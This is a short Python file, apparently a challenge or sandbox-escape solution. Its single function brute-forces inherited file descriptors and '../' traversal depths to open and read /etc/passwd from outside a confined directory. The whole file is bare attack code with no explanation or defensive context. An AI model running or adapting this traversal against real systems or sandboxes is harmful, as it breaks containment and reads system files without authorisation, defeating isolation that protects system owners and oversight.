import os


def solve(secret, victim):
    for fd in range(64):
        for up in range(1, 12):
            try:
                return os.read(os.open("../" * up + "etc/passwd", os.O_RDONLY, dir_fd=fd), 10)
            except OSError:
                pass
    return "nothing"
